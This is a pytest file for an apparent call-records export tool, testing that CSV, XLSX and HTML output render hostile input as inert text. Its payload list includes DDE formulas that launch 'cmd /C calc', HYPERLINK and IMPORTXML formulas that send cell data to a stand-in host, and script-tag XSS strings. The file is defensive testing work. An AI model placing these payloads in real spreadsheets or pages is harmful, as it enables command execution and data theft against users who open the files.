"""What hostile callers send is text in CSV and XLSX, read by foreign readers."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callwarden.accesspackage import cells, cover, csvtable, xlsx
from callwarden.accesspackage.cover_words import WORDS, why

#: Names, numbers and reasons as callers, gateways and people send them (OWASP "CSV Injection"; public DDE and HYPERLINK examples).
HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+420777123456",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    '";=1+1',
    '";"=1+1',
    "x;=1+1",
    "x,=1+1",
    'x";=1+1;"',
    "x\t=1+1",
    "x|=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u207a1",
    '=HYPERLINK("http://x.invalid/?"&A1;"click")',
    '=IMPORTXML(CONCAT("http://x.invalid/";A1);"//a")',
    "%0A=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b]0;x\x07",
    "\ud800=1",
    "_x003D_1+1",
    "00420777123456",
    "1E5",
    "2026-01-31",
    "12:30",
    "<script>alert(1)</script>",
    "]]>&<x/>",
    "x" * 40_000,
    "",
]
#: What no cell may begin with, whatever the separator and whatever is skipped in front.
BEGINS = re.compile(r"(?:^|[;,|\t])[ \"'`\u00a0]*?(?<!')([=+\-@])")


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_every_hostile_text_is_one_cell_of_text_in_csv() -> None:
    data = csvtable.encode(["name", "n"], [[one, 7] for one in HOSTILE])
    rows = read_csv(data)
    assert len(rows) == len(HOSTILE) + 1
    assert {len(row) for row in rows} == {2}
    for _text, (shown, number) in zip(HOSTILE, rows[1:], strict=True):
        assert number == "7"
        folded = unicodedata.normalize("NFKC", shown)
        assert not BEGINS.search(folded), shown
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in shown)
        with pytest.raises(ValueError):
            float(shown)
    assert data.count(b"\r\n") == len(rows)
    assert data.count(b"\n") == len(rows)


def test_a_reader_of_another_country_finds_no_formula_either() -> None:
    """Programs that part cells by semicolons read our commas as text: even then no cell begins a formula."""
    data = csvtable.encode(["a", "b"], [[one, other] for one in HOSTILE for other in ("=1", 'x";=1', "plain")])
    for separator in ";\t|":
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator):
            for cell in row:
                assert unicodedata.normalize("NFKC", cell.lstrip(' "'))[:1] not in tuple("=+-@"), (separator, cell)


def test_every_hostile_text_is_text_in_a_workbook() -> None:
    data = xlsx.encode({"Calls": (["name", "n"], [[one, 7.5] for one in HOSTILE]), "Other": (["x"], [])})
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Calls", "Other"]
    rows = list(book["Calls"].iter_rows(min_row=2))
    for text, (name, number) in zip(HOSTILE, rows, strict=True):
        assert (number.data_type, number.value) == ("n", 7.5)
        assert name.hyperlink is None
        if not text:
            assert name.value is None
            continue
        assert name.data_type in ("s", "inlineStr")  # "f" would be a formula, "n" a number
        assert name.number_format == "@"
        assert name.value.replace("_x005F_", "_") == cells.visible(text)
    assert not book.defined_names
    assert book["Calls"]["A6"].value == "+420777123456"
    # The parts themselves: nothing but cells of text and numbers.
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert parts.testzip() is None
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        tags = {element.tag.rpartition("}")[2] for element in sheet.iter()}
        assert tags == {"worksheet", "cols", "col", "sheetData", "row", "c", "is", "t", "v"}
        assert [name for name in parts.namelist() if "vba" in name.lower() or "external" in name.lower()] == []
    assert xlsx.encode({"A": (["a"], [["=1"]])}) == xlsx.encode({"A": (["a"], [["=1"]])})


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@;,|\t\r\n \"'`ax1_\uff1d\ufe62\u00a0\u202e")), max_size=12))
def test_no_text_becomes_a_formula(text: str) -> None:
    (row,) = read_csv(csvtable.encode(["h"], [[text]]))[1:]
    assert not BEGINS.search(unicodedata.normalize("NFKC", row[0])), row
    for separator in ";\t|":
        line = csvtable.encode(["h", "x", "y"], [["a", text, "b"]]).decode("utf-8-sig").split("\r\n")[1]
        for cell in next(csv.reader([line], delimiter=separator)):
            assert unicodedata.normalize("NFKC", cell.lstrip(' "'))[:1] not in tuple("=+-@"), (separator, text)


def test_the_cover_shows_names_and_runs_nothing() -> None:
    for language in WORDS:
        facts = cover.Facts(
            language, "case-2026-1-ab12", "", "2026-11-26T12:00:00.000Z", "<b>ACME</b>\u202e",
            [cover.CallLine("2026", '"><script>alert(1)</script>', "given", 3.0, ["audio/x.wav"])],
            [cover.Missing("<img src=x>", "elsewhere", "pbx-2"), cover.Missing("x", "command.odd")], ["quality"], ["consent"],
            ["P30D"], True, True,
        )  # fmt: skip
        page = cover.html(facts).decode()
        assert "<script" not in page
        assert "<img" not in page
        assert "&lt;b&gt;ACME&lt;/b&gt;\\u202e" in page
        assert "pbx-2" in page
        assert WORDS[language]["title"] in page
        ElementTree.fromstring(re.sub(r"<meta [^>]*>|<!DOCTYPE html>|scope=\w+", "", page))  # every element is closed


def test_every_language_says_everything() -> None:
    for language, words in WORDS.items():
        assert words.keys() == WORDS["en"].keys()
        assert all(words.values())
        for code in ("elsewhere", "not_found.erased", "vault.no_match", "command.unheard"):
            assert why(language, code, "pbx-2")
